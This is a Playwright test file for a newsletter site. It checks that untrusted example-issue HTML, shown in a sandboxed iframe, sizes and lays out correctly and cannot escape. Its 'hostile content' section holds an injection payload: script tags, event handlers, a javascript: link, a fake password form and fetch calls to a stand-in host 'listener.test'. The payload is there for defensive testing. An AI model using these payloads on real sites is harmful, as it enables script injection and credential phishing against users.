import type { Page } from '@playwright/test';
import { settled } from './accessibility';
import { rows, stack } from './backend';
import { expect, test } from './fixtures';

// Example issues are untrusted: anyone who can edit newsletters writes them. What they can show, and what they can't do.

const category = async () =>
  ((await rows.read<{ id: string }>('categories?limit=1')).at(0) as { id: string }).id;

const made: string[] = [];

test.afterEach(async () => {
  for (const id of made.splice(0)) await rows.remove(`newsletters?id=eq.${id}`);
});

/** Opens a new newsletter with an example, and returns its frame. */
async function openExample(page: Page, example_content: string) {
  const newsletter = await rows.insert<{ id: string }>('newsletters', {
    title: `Example ${crypto.randomUUID()}`,
    description: 'For a test',
    category_id: await category(),
    example_content,
    created_at: '2020-01-01T00:00:00Z',
  });
  made.push(newsletter.id);
  await page.goto(`/newsletter/${newsletter.id}`);
  const element = page.getByTitle(/^Example issue of/);
  await expect(element).toBeVisible();
  await expect
    .poll(() => element.evaluate((frame: HTMLIFrameElement) => frame.contentDocument?.body.childElementCount))
    .toBeGreaterThan(0);
  return element;
}

type Frame = Awaited<ReturnType<typeof openExample>>;

const heightOf = (frame: Frame) => frame.evaluate((element) => element.clientHeight);

/** How much of the content the frame cuts off, in pixels. */
const hidden = (frame: Frame) =>
  frame.evaluate((element: HTMLIFrameElement) => {
    const root = element.contentDocument?.documentElement;
    return root ? root.scrollHeight - root.clientHeight : Number.NaN;
  });

/** The height once it no longer changes. */
async function settledHeight(frame: Frame) {
  let last = -1;
  await expect
    .poll(async () => {
      const before = last;
      last = await heightOf(frame);
      return last === before;
    })
    .toBe(true);
  return last;
}

const tall = '<div style="height:3000px;background:linear-gradient(#eee,#999)">tall</div>';

test.describe('its height', () => {
  const cases: [string, string, min: number, max: number][] = [
    ['short', '<p>Short</p>', 200, 200],
    ['long', tall, 3000, 3100],
    ['taller than the screen', `<div style="min-height:100vh">x</div>${tall}`, 3800, 3900],
    [
      'of percentages',
      `<style>html,body{height:100%}.a{height:120%}</style><div class="a">x</div>${tall}`,
      3000,
      3100,
    ],
    [
      'of important percentages',
      `<body style="height:100%!important;padding:40px"><p>x</p>${tall}`,
      3000,
      3400,
    ],
    ['with margins that leave the body', '<div style="margin:300px 0">x</div>', 600, 700],
    [
      'with content out of the flow',
      '<div style="position:absolute;top:900px;height:50px">x</div>',
      950,
      1000,
    ],
    ['with floats', '<div style="float:left;height:700px">x</div>', 700, 800],
    ['of nothing', '<style>*{display:none!important}</style><p>x</p>', 200, 200],
    ['of an absurd height', '<div style="height:9000000px">x</div>', 20_000, 20_000],
  ];
  for (const [what, html, min, max] of cases) {
    test(`fits content ${what}`, async ({ page }) => {
      const frame = await openExample(page, html);
      const height = await settledHeight(frame);
      expect(height).toBeGreaterThanOrEqual(min);
      expect(height).toBeLessThanOrEqual(max);
      if (max < 20_000) expect(await hidden(frame)).toBeLessThanOrEqual(1);
    });
  }

  test('follows late images, opened details and the width', async ({ page }) => {
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('https://pictures.test/**', async (route) => {
      await held;
      const svg =
        '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="900"><rect width="9" height="9"/></svg>';
      await route.fulfill({ contentType: 'image/svg+xml', body: svg });
    });
    const words = 'word '.repeat(400);
    const frame = await openExample(
      page,
      `<details><summary>More</summary><div style="height:1500px">x</div></details><p>${words}</p><p><img src="https://pictures.test/late.svg"></p>`,
    );
    await expect.poll(() => heightOf(frame)).toBeGreaterThan(250);
    expect(await settledHeight(frame)).toBeLessThan(900);
    release();
    await expect.poll(() => heightOf(frame)).toBeGreaterThan(900);
    const closed = await settledHeight(frame);
    await page.frameLocator('iframe').getByText('More').click();
    await expect.poll(() => heightOf(frame)).toBe(closed + 1500);
    await page.setViewportSize({ width: 420, height: 800 });
    await expect.poll(() => heightOf(frame)).toBeGreaterThan(closed + 1600);
    expect(await hidden(frame)).toBeLessThanOrEqual(1);
  });

  test('stops following content that never stops moving', async ({ page }) => {
    const frame = await openExample(
      page,
      '<style>@keyframes grow{from{height:300px}to{height:15000px}}.a{animation:grow 2s infinite alternate}</style><div class="a">x</div>',
    );
    await expect.poll(() => settledHeight(frame), { timeout: 20_000 }).toBeGreaterThan(200);
    const height = await heightOf(frame);
    for (const share of [0, 0.25, 0.5, 0.75, 1]) {
      await frame.evaluate((element: HTMLIFrameElement, progress) => {
        for (const animation of element.contentDocument?.getAnimations() ?? []) {
          animation.currentTime = progress * 2000;
        }
      }, share);
      await settled(page);
      expect(await heightOf(frame)).toBe(height);
    }
  });
});

test.describe('a wide issue', () => {
  const picture = `src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"`;
  const words = 'Some words to read. '.repeat(20);
  const issue = `<style>.page{width:600px;min-width:600px}</style>
    <table width="600" align="center" style="width:600px;min-width:600px"><tr>
      <td width="300"><table width="290"><tr><td><img width="290" height="200" ${picture}></td></tr></table></td>
      <td width="300" style="font-size:15px">${words}</td></tr></table>
    <div class="page">${words}</div>
    <div style="font-size:0"><div class="column" style="display:inline-block;width:100%;max-width:250px;height:9px"></div><div class="column" style="display:inline-block;width:100%;max-width:250px;height:9px"></div></div>
    <img id="logo" style="width:100%;max-width:120px;height:40px" ${picture}>`;

  const layout = (frame: Frame) =>
    frame.evaluate((element: HTMLIFrameElement) => {
      const root = element.contentDocument?.documentElement as HTMLElement;
      const tops = [...root.querySelectorAll('.column')].map((column) => column.getBoundingClientRect().top);
      return {
        beyond: root.scrollWidth - root.clientWidth,
        font: getComputedStyle(root.querySelectorAll('td')[2] as Element).fontSize,
        logo: root.querySelector('#logo')?.clientWidth,
        table: root.querySelector('table')?.clientWidth,
        columns: new Set(tops).size === 1 ? 'beside' : 'below',
      };
    });

  test('is readable on a phone', async ({ page }) => {
    await page.setViewportSize({ width: 360, height: 740 });
    const frame = await openExample(page, issue);
    await settledHeight(frame);
    expect(await layout(frame)).toMatchObject({ beyond: 0, font: '15px', logo: 120, columns: 'below' });
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(360);
  });

  test('keeps its shape on a desktop', async ({ page }) => {
    const frame = await openExample(page, issue);
    await settledHeight(frame);
    expect(await layout(frame)).toMatchObject({ beyond: 0, logo: 120, table: 600, columns: 'beside' });
  });
});

test.describe('hostile content', () => {
  test.use({ expectErrors: true });

  const listener = 'https://listener.test';
  const attack = 'parent.__pwn=1;top.__pwn=1;fetch("https://listener.test/script")';
  const hostile = `
    <meta http-equiv="refresh" content="0;url=${listener}/refresh">
    <base href="${listener}/base/"><link rel="stylesheet" href="${listener}/sheet.css">
    <style>@import url(${listener}/import.css); *{color:red}</style>
    <script>${attack}</script><script src="${listener}/script.js"></script>
    <img src="data:," onerror='${attack}'><svg onload='${attack}'><script>${attack}</script></svg>
    <iframe src="${listener}/frame"></iframe><iframe srcdoc="<script>parent.parent.__pwn=1</script>"></iframe>
    <object data="${listener}/object"></object><embed src="${listener}/embed">
    <video src="${listener}/video" autoplay></video><audio src="${listener}/audio" autoplay></audio>
    <iframe src="${stack.shell}/own-frame"></iframe><link rel="stylesheet" href="${stack.shell}/own-sheet.css">
    <object data="${stack.shell}/own-object"></object>
    <form id="f" action="${listener}/form" method="post"><input name="password" type="password" value="x"><button>Sign in</button></form>
    <a id="js" href="javascript:${encodeURIComponent(attack)}">script link</a>
    <a id="top" href="${listener}/top" target="_top">top link</a>
    <a id="parent" href="${listener}/parent" target="_parent">parent link</a>
    <a id="self" href="${listener}/self" target="_self">self link</a>
    <textarea></textarea></title></textarea><script>${attack}</script>
    <div style="position:fixed;inset:0;z-index:2147483647;background:red" onclick='${attack}'></div>`;

  test('runs nothing, requests nothing, and stays in its frame', async ({ page, context }) => {
    const asked: string[] = [];
    await context.route(`${listener}/**`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<p>outside</p>' });
    });
    // The page can load these, the example can't: it has a policy of its own.
    await context.route(`${stack.shell}/own-*`, (route) => {
      asked.push(route.request().url());
      return route.fulfill({ contentType: 'text/html', body: '<p>own</p>' });
    });
    page.on('dialog', () => asked.push('dialog'));
    const frame = await openExample(page, hostile);
    const address = page.url();
    const sandbox = (await frame.getAttribute('sandbox'))?.split(' ');
    expect(sandbox).not.toContain('allow-scripts');
    const inside = page.frameLocator('iframe').first();
    for (const id of ['js', 'self', 'top', 'parent']) await inside.locator(`#${id}`).dispatchEvent('click');
    await inside.locator('#f button').dispatchEvent('click');
    // Links that are clicked open in new tabs. These requests come last, after anything the example does on its own.
    const outside = /\/(self|top|parent)$/;
    await expect.poll(() => asked.filter((url) => outside.test(url))).toHaveLength(3);
    await page.evaluate(() => fetch('/config.json'));
    expect(await page.evaluate(() => '__pwn' in window)).toBe(false);
    expect(page.url()).toBe(address);
    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
    await expect(page).toHaveURL(`${stack.shell}/`);
    expect(asked.filter((url) => !outside.test(url))).toEqual([]);
  });

  test('the largest possible style sheet and messages with fake heights have no effect', async ({ page }) => {
    const rules = '.a{color:red}'.repeat(70_000);
    const frame = await openExample(page, `<style>*{display:none!important}${rules}</style><p>x</p>`);
    await page.evaluate(() => {
      for (let count = 0; count < 1000; count += 1) {
        for (const height of [99_999_999, -1, Number.NaN, '1e9'])
          window.postMessage({ height, type: 'height' }, '*');
      }
    });
    expect(await settledHeight(frame)).toBe(200);
    await page.getByRole('button', { name: 'Back to Newsletters' }).click();
    await expect(page.getByRole('heading', { name: 'Featured Newsletters' })).toBeVisible();
  });

  for (const target of ['_top', '_parent', '_self', '_blank', 'name']) {
    test(`a link with the target ${target} opens a new tab without an opener`, async ({ page, context }) => {
      await context.route(`${listener}/**`, (route) =>
        route.fulfill({ contentType: 'text/html', body: 'outside' }),
      );
      await openExample(page, `<p><a href="${listener}/out" target="${target}">Go</a></p>`);
      const address = page.url();
      const opened = context.waitForEvent('page');
      await page.frameLocator('iframe').getByText('Go').click();
      const tab = await opened;
      await tab.waitForURL(`${listener}/out`);
      expect(await tab.evaluate(() => window.opener)).toBeNull();
      expect(await tab.evaluate(() => document.referrer)).toBe('');
      expect(page.url()).toBe(address);
    });
  }

  test('a link within the issue stays in it', async ({ page }) => {
    await openExample(page, `<p><a href="#end">To the end</a></p>${tall}<p id="end">The end</p>`);
    const address = page.url();
    await page.frameLocator('iframe').getByText('To the end').click();
    await expect(page.frameLocator('iframe').getByText('The end', { exact: true })).toBeInViewport();
    expect(page.url()).toBe(address);
  });
});

for (const colorScheme of ['light', 'dark'] as const) {
  test.describe(colorScheme, () => {
    // Low enough that the frame is below the fold.
    test.use({ colorScheme, viewport: { width: 360, height: 400 } });

    test('a ring shows keyboard focus in the frame, whatever its content', async ({ page }) => {
      const frame = await openExample(page, '<p>Nothing in here takes the focus</p>');
      const ring = () =>
        frame.evaluate(({ parentElement }) => {
          const { content, borderTopWidth, borderTopColor, boxShadow } = getComputedStyle(
            parentElement as HTMLElement,
            '::after',
          );
          return content === 'none' ? 'none' : { borderTopWidth, borderTopColor, boxShadow };
        });
      const [line, under] =
        colorScheme === 'light'
          ? ['rgb(31, 77, 63)', 'rgb(255, 255, 255)']
          : ['rgb(143, 211, 184)', 'rgb(30, 28, 25)'];
      expect(await ring()).toBe('none');
      await expect(frame).not.toBeInViewport();
      await page.getByRole('button', { name: 'Back to Newsletters' }).focus();
      await page.keyboard.press('Tab');
      await expect(frame).toBeFocused();
      await expect(frame).toBeInViewport();
      expect(await ring()).toEqual({
        borderTopWidth: '3px',
        borderTopColor: line,
        boxShadow: `${under} 0px 0px 0px 3px inset`,
      });
      await page.keyboard.press('Shift+Tab');
      await expect(frame).not.toBeFocused();
      expect(await ring()).toBe('none');
      await page.frameLocator('iframe').getByText('Nothing').click();
      await expect(frame).toBeFocused();
      expect(await ring()).toBe('none');
    });
  });
}
